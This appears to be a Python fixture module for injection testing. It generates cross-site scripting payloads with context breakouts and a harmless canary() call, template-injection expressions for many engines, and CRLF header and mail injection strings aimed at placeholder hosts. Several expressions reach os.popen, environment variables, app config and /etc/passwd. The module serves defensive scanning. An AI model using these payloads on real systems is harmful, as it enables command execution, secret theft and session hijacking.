"""What is written into fields to have it run: markup for browsers, expressions for template engines. Each list is made
of what runs and of what frees it from where it stands."""

from __future__ import annotations

from itertools import product

CANARY_HOST = "canary.test"
"""Nothing may ever be asked of it. `canary()` asks it, in the browser that judges."""

_LINES = r"""
<script>canary()</script>
<script src=//canary.test/x.js></script>
<ScRiPt>canary()</sCrIpT>
<scr<script>ipt>canary()</scr</script>ipt>
<img src=x onerror=canary()>
<img src=//canary.test/x>
<img srcset="//canary.test/x 2x">
<image href=//canary.test/x onerror=canary()>
<svg onload=canary()>
<svg/onload=canary()//
<svg><script>canary()</script></svg>
<svg><animate onbegin=canary() attributeName=x dur=1s>
<svg><a xlink:href="javascript:canary()"><text y=20>x</text></a></svg>
<svg><foreignObject><img src=x onerror=canary()></foreignObject></svg>
<math><mi//xlink:href="data:text/html,<script>canary()</script>">
<math><mtext><table><mglyph><style><img src=x onerror=canary()></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=canary()>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary()>
<body onload=canary()>
<iframe src="javascript:canary()"></iframe>
<iframe src=//canary.test/frame></iframe>
<iframe srcdoc="<script>canary()</script>"></iframe>
<object data=//canary.test/o></object>
<embed src=//canary.test/e>
<a href="javascript:canary()">x</a>
<a href="data:text/html,<script>canary()</script>">x</a>
<details open ontoggle=canary()>
<video src=x onerror=canary()></video>
<audio src=//canary.test/a autoplay></audio>
<input autofocus onfocus=canary()>
<select autofocus onfocus=canary()></select>
<x tabindex=1 autofocus onfocus=canary()>
<marquee onstart=canary()>x</marquee>
<style>@import '//canary.test/x.css';</style>
<style>*{background:url(//canary.test/x)}</style>
<p style="background:url(//canary.test/x)">x</p>
<link rel=stylesheet href=//canary.test/x.css>
<link rel=prefetch href=//canary.test/x>
<base href=//canary.test/>
<meta http-equiv=refresh content="0;url=//canary.test/">
<form action=//canary.test/><button autofocus>Sign in again</button></form>
<button form=x formaction=//canary.test/>x</button>
<textarea><img title="</textarea><img src=x onerror=canary()>">
<template><img src=x onerror=canary()></template>
<img src='//canary.test/?
<!--><img src=x onerror=canary()>-->
<![CDATA[><img src=x onerror=canary()>]]>
<plaintext>
&lt;img src=x onerror=canary()&gt;
&#60;img src=x onerror=canary()&#62;
%3Cimg%20src%3Dx%20onerror%3Dcanary()%3E
\u003cimg src=x onerror=canary()\u003e
\x3cscript\x3ecanary()\x3c/script\x3e
+ADw-script+AD4-canary()+ADw-/script+AD4-
javascript:canary()
java	script:canary()
data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==
${canary()}
=HYPERLINK("//canary.test/","x")
""".strip().splitlines()
_FREES = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea></pre>",
    "</script></style>",
    "--></svg>",
    '" onmouseover=canary() x="',
)


_RUNS = [
    *_LINES,
    "<script\f>canary()</script\f>",
    "<img\nsrc=x\nonerror=canary()>",
    "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
    "\x1b]8;;//canary.test/\x07x\x1b]8;;\x07",
    "\u202e<img src=x onerror=canary()>\u2066",
]
SCRIPTS = [free + run for free, run in product(_FREES, _RUNS)]

PRODUCT = "9801547"
"""What 1337*7331 is: a page that says so has computed."""
_EXPRESSIONS = (
    "1337*7331", "'1337'|int*7331", "config", "self", "self.__init__.__globals__",
    "''.__class__.__mro__[1].__subclasses__()",
    "request|attr('application')", "request.environ", "g.visitor.form_token", "session", "visitor.caller",
    "cycler.__init__.__globals__.os.popen('id').read()", "lipsum.__globals__['os'].environ",
    "url_for.__globals__['current_app'].config", "get_flashed_messages.__globals__", "namespace(a=1)",
    "joiner.__init__.__globals__", "''|attr('%c%cclass%c%c'|format(95,95,95,95))", "'/etc/passwd'", "SECRET",
    "0.__class__", "{{1337*7331}}",
)  # fmt: skip
_ENGINES = (
    "{{{{{e}}}}}", "{{{{{e}|safe}}}}", "{{% print({e}) %}}", "{{% include {e} %}}", "{{% render {e} %}}",
    "{{% raw %}}{{{{{e}}}}}{{% endraw %}}", "{{# {e} #}}", "${{{e}}}", "#{{{e}}}", "<%= {e} %>", "{{{e}}}", "%({e})s",
    "*{{{e}}}", "@({e})", "[[${{{e}}}]]", "{{php}}echo {e};{{/php}}",
)  # fmt: skip
TEMPLATES = [engine.format(e=expression) for engine, expression in product(_ENGINES, _EXPRESSIONS)]

_ENDS = (
    "\r\n", "\n", "\r", "\r\n\t", "\n ", "\r\n\r\n", "\n\n", "\0", "\x0b", "\x0c", "\x1e", "\x85", "\u2028", "\u2029",
    "\u010d\u010a", "\u560d\u560a", "%0d%0a", "%0D%0A%20", "%E5%98%8D%E5%98%8A", "%u000d%u000a", "\\r\\n", "&#13;&#10;",
)  # fmt: skip
"""What ends a line, or does so once something has decoded, cut or folded it."""
_FOLLOWS = (
    "x{end}X-Injected: 1", "{end}X-Injected: 1{end}{end}<html>", "x{end}Bcc: x-injected@evil.example",
    "x{end}Set-Cookie: x-injected=1", "x{end}Transfer-Encoding: x-injected", "x{end}Host: x-injected.example",
    "x{end}{end}GET /x-injected HTTP/1.1{end}Host: a{end}{end}",
    "x{end}.{end}RSET{end}MAIL FROM:<x-injected@evil.example>",
)  # fmt: skip
INJECTED = "x-injected"
LINES = [follows.format(end=end) for follows, end in product(_FOLLOWS, _ENDS)]
